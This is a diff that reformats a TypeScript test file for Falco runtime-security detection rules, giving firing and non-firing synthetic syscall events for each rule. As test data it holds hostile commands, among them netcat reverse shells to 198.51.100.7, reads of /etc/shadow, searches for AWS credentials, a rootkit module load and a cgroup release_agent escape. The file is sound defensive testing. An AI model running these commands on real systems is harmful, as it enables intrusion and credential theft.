@@ -18,31 +18,63 @@ const C: PartialEvent = { container: {} };
 const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> = {
   'Directory traversal monitored file read': {
     fires: [open('/etc/passwd', 'r', { fd: { nameRaw: '/var/www/html/../../../etc/passwd' }, proc: { name: 'php-fpm' }, parents: ['php-fpm'] })],
-    silent: [open('/etc/passwd', 'r', { proc: { name: 'php-fpm' }, parents: ['php-fpm'] }), open('/etc/passwd', 'r', { fd: { nameRaw: '/a/../../etc/passwd' }, parents: ['bash'] })],
+    silent: [
+      open('/etc/passwd', 'r', { proc: { name: 'php-fpm' }, parents: ['php-fpm'] }),
+      open('/etc/passwd', 'r', { fd: { nameRaw: '/a/../../etc/passwd' }, parents: ['bash'] }),
+    ],
   },
   'Read sensitive file trusted after startup': {
     fires: [open('/etc/shadow', 'r', { proc: { name: 'nginx', startTime: TEST_TIME - 60_000 } })],
-    silent: [open('/etc/shadow', 'r', { proc: { name: 'nginx', startTime: TEST_TIME - 1000 } }), open('/etc/hosts', 'r', { proc: { name: 'nginx', startTime: 0 } })],
+    silent: [
+      open('/etc/shadow', 'r', { proc: { name: 'nginx', startTime: TEST_TIME - 1000 } }),
+      open('/etc/hosts', 'r', { proc: { name: 'nginx', startTime: 0 } }),
+    ],
   },
   'Read sensitive file untrusted': {
     fires: [open('/etc/shadow', 'r', { proc: { name: 'cat' } }), open('/etc/sudoers.d/admins', 'r', { proc: { name: 'python3' } })],
-    silent: [open('/etc/shadow', 'r', { proc: { name: 'sshd' } }), open('/etc/shadow', 'r', { proc: { name: 'dpkg' } }), open('/etc/shadow', 'w', { proc: { name: 'cat' } })],
+    silent: [
+      open('/etc/shadow', 'r', { proc: { name: 'sshd' } }),
+      open('/etc/shadow', 'r', { proc: { name: 'dpkg' } }),
+      open('/etc/shadow', 'w', { proc: { name: 'cat' } }),
+    ],
   },
   'Run shell untrusted': {
     fires: [exec('sh -c id', { parents: ['nginx', 'nginx'] }), exec('bash -c ls', { parents: ['php', 'httpd'] })],
-    silent: [exec('sh -c id', { parents: ['bash', 'sshd'] }), exec(['sh', '-c', '/usr/sbin/nginx -c /etc/nginx/nginx.conf'], { parents: ['nginx'] }), exec('sh -c id', { parents: ['nginx'], proc: { parents: [{ pid: 2, name: 'nginx' }, { pid: 1, name: 'apt-get' }] } })],
+    silent: [
+      exec('sh -c id', { parents: ['bash', 'sshd'] }),
+      exec(['sh', '-c', '/usr/sbin/nginx -c /etc/nginx/nginx.conf'], { parents: ['nginx'] }),
+      exec('sh -c id', {
+        parents: ['nginx'],
+        proc: {
+          parents: [
+            { pid: 2, name: 'nginx' },
+            { pid: 1, name: 'apt-get' },
+          ],
+        },
+      }),
+    ],
   },
   'System user interactive': {
     fires: [exec('/usr/bin/id', { proc: { user: 'www-data', uid: 33 }, parents: ['bash', 'sshd'] })],
-    silent: [exec('/usr/bin/id', { proc: { user: 'alice', uid: 1000 }, parents: ['bash', 'sshd'] }), exec('/usr/bin/id', { proc: { user: 'www-data', uid: 33 }, parents: ['php-fpm'] })],
+    silent: [
+      exec('/usr/bin/id', { proc: { user: 'alice', uid: 1000 }, parents: ['bash', 'sshd'] }),
+      exec('/usr/bin/id', { proc: { user: 'www-data', uid: 33 }, parents: ['php-fpm'] }),
+    ],
   },
   'Terminal shell in container': {
     fires: [exec('/bin/bash', { ...C, proc: { tty: 34816 }, parents: ['runc:[1:CHILD]'] }), exec('/bin/sh', { ...C, proc: { tty: 34817, parents: [] } })],
-    silent: [exec('/bin/bash', { ...C, proc: { tty: 0 }, parents: ['runc:[1:CHILD]'] }), exec('/bin/bash', { proc: { tty: 34816 }, parents: ['runc:[1:CHILD]'] }), exec('/bin/bash', { ...C, proc: { tty: 34816 }, parents: ['python3'] })],
+    silent: [
+      exec('/bin/bash', { ...C, proc: { tty: 0 }, parents: ['runc:[1:CHILD]'] }),
+      exec('/bin/bash', { proc: { tty: 34816 }, parents: ['runc:[1:CHILD]'] }),
+      exec('/bin/bash', { ...C, proc: { tty: 34816 }, parents: ['python3'] }),
+    ],
   },
   'Contact K8S API Server From Container': {
     fires: [connect('10.96.0.1', 443, { ...C, fd: { dipName: 'kubernetes.default.svc.cluster.local' } })],
-    silent: [connect('10.96.0.1', 443, { container: { podNamespace: 'kube-system' }, fd: { dipName: 'kubernetes.default.svc.cluster.local' } }), connect('10.96.0.10', 53, { ...C, fd: { dipName: 'kube-dns.kube-system.svc.cluster.local' } })],
+    silent: [
+      connect('10.96.0.1', 443, { container: { podNamespace: 'kube-system' }, fd: { dipName: 'kubernetes.default.svc.cluster.local' } }),
+      connect('10.96.0.10', 53, { ...C, fd: { dipName: 'kube-dns.kube-system.svc.cluster.local' } }),
+    ],
   },
   'Netcat Remote Code Execution in Container': {
     fires: [exec('nc -e /bin/sh 198.51.100.7 4444', C), exec('ncat --sh-exec /bin/bash 198.51.100.7 4444', C)],
@@ -61,7 +93,10 @@ const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> =
     silent: [exec('rm /tmp/x'), exec('ls /data')],
   },
   'Create Symlink Over Sensitive Files': {
-    fires: [makeEvent({ type: 'symlinkat', args: { target: '/etc/shadow', linkpath: '/tmp/s' } }), makeEvent({ type: 'symlink', args: { target: '/root', linkpath: '/tmp/r' } })],
+    fires: [
+      makeEvent({ type: 'symlinkat', args: { target: '/etc/shadow', linkpath: '/tmp/s' } }),
+      makeEvent({ type: 'symlink', args: { target: '/root', linkpath: '/tmp/r' } }),
+    ],
     silent: [makeEvent({ type: 'symlinkat', args: { target: '/etc/hosts', linkpath: '/tmp/h' } })],
   },
   'Create Hardlink Over Sensitive Files': {
@@ -74,11 +109,19 @@ const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> =
   },
   'Redirect STDOUT/STDIN to Network Connection in Container': {
     fires: [makeEvent({ type: 'dup2', res: 0, ...C, fd: { type: 'ipv4', name: '10.0.0.5:4431->198.51.100.7:4444' } })],
-    silent: [makeEvent({ type: 'dup2', res: 0, ...C, fd: { type: 'pipe', name: 'pipe' } }), makeEvent({ type: 'dup2', res: 7, ...C, fd: { type: 'ipv4', name: 'x' } })],
+    silent: [
+      makeEvent({ type: 'dup2', res: 0, ...C, fd: { type: 'pipe', name: 'pipe' } }),
+      makeEvent({ type: 'dup2', res: 7, ...C, fd: { type: 'ipv4', name: 'x' } }),
+    ],
   },
   'Linux Kernel Module Injection Detected': {
-    fires: [makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', args: ['insmod', 'rootkit.ko'], capEffective: ['CAP_SYS_MODULE', 'CAP_SYS_ADMIN'] } })],
-    silent: [makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', capEffective: ['CAP_NET_RAW'] } }), makeEvent({ type: 'finit_module', proc: { name: 'modprobe', capEffective: ['CAP_SYS_MODULE'] } })],
+    fires: [
+      makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', args: ['insmod', 'rootkit.ko'], capEffective: ['CAP_SYS_MODULE', 'CAP_SYS_ADMIN'] } }),
+    ],
+    silent: [
+      makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', capEffective: ['CAP_NET_RAW'] } }),
+      makeEvent({ type: 'finit_module', proc: { name: 'modprobe', capEffective: ['CAP_SYS_MODULE'] } }),
+    ],
   },
   'Debugfs Launched in Privileged Container': {
     fires: [exec('debugfs /dev/sda1', { container: { privileged: true } })],
@@ -86,15 +129,24 @@ const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> =
   },
   'Detect release_agent File Container Escapes': {
     fires: [open('/tmp/cgrp/release_agent', 'w', { ...C, proc: { capEffective: ['CAP_SYS_ADMIN'] } })],
-    silent: [open('/tmp/cgrp/release_agent', 'w', { ...C, proc: { capEffective: ['CAP_CHOWN'] } }), open('/tmp/cgrp/release_agent', 'r', { ...C, proc: { capEffective: ['CAP_SYS_ADMIN'] } })],
+    silent: [
+      open('/tmp/cgrp/release_agent', 'w', { ...C, proc: { capEffective: ['CAP_CHOWN'] } }),
+      open('/tmp/cgrp/release_agent', 'r', { ...C, proc: { capEffective: ['CAP_SYS_ADMIN'] } }),
+    ],
   },
   'PTRACE attached to process': {
-    fires: [makeEvent({ type: 'ptrace', args: { request: 16, pid: 1 }, proc: { name: 'inject' } }), makeEvent({ type: 'ptrace', args: { request: 'PTRACE_POKEDATA', pid: 1 }, proc: { name: 'inject' } })],
+    fires: [
+      makeEvent({ type: 'ptrace', args: { request: 16, pid: 1 }, proc: { name: 'inject' } }),
+      makeEvent({ type: 'ptrace', args: { request: 'PTRACE_POKEDATA', pid: 1 }, proc: { name: 'inject' } }),
+    ],
     silent: [makeEvent({ type: 'ptrace', args: { request: 2, pid: 1 }, proc: { name: 'inject' } })],
   },
   'PTRACE anti-debug attempt': {
     fires: [makeEvent({ type: 'ptrace', args: { request: 0 }, proc: { name: 'malware' } })],
-    silent: [makeEvent({ type: 'ptrace', args: { request: 16 }, proc: { name: 'gdb' } }), makeEvent({ type: 'ptrace', args: { request: 0 }, proc: { name: '<NA>' } })],
+    silent: [
+      makeEvent({ type: 'ptrace', args: { request: 16 }, proc: { name: 'gdb' } }),
+      makeEvent({ type: 'ptrace', args: { request: 0 }, proc: { name: '<NA>' } }),
+    ],
   },
   'Find AWS Credentials': {
     fires: [exec(['grep', '-ri', 'aws_secret_access_key', '/home']), exec(['find', '/', '-path', '*/.aws/credentials'])],
@@ -110,7 +162,11 @@ const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> =
   },
   'Disallowed SSH Connection Non Standard Port': {
     fires: [connect('198.51.100.7', 443, { proc: { name: 'ssh', args: ['/usr/bin/ssh', '-p', '443', 'x'] } })],
-    silent: [connect('198.51.100.7', 22, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }), connect('10.0.0.9', 443, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }), connect('198.51.100.7', 443, { proc: { name: 'curl', args: ['curl', 'x'] } })],
+    silent: [
+      connect('198.51.100.7', 22, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }),
+      connect('10.0.0.9', 443, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }),
+      connect('198.51.100.7', 443, { proc: { name: 'curl', args: ['curl', 'x'] } }),
+    ],
   },
   'Fileless execution via memfd_create': {
     fires: [exec('/proc/self/fd/3', { proc: { name: 'x', exeFromMemfd: true } })],
@@ -121,7 +177,10 @@ const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> =
 test('Falco stable rules load: all 25 compile, none skipped, no error', () => {
   assert.equal(ruleset.rules.length, 25);
   assert.deepEqual(ruleset.skipped, []);
-  assert.deepEqual(diagnostics.filter((d) => d.severity === 'error' || d.code === 'UNSUPPORTED_FIELD'), []);
+  assert.deepEqual(
+    diagnostics.filter((d) => d.severity === 'error' || d.code === 'UNSUPPORTED_FIELD'),
+    [],
+  );
   assert.deepEqual(Object.keys(cases).sort(), ruleset.rules.map((r) => r.name).sort());
   assert.ok(ruleset.rules.every((r) => r.type === `custom/${r.name}`));
 });
